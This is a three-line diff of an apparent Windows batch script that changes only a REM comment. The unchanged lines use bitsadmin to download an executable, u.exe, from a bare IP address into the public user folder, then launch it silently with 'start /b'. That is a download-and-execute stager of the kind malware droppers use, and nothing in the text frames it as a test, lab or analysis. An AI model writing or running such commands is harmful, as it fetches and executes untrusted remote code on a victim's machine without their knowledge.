@@ -1,3 +1,3 @@
-REM run 6182 v2
+REM bootstrap 4675 v2
 bitsadmin /transfer job /download /priority high http://203.0.113.17/u.exe C:\Users\Public\u.exe
 start /b C:\Users\Public\u.exe
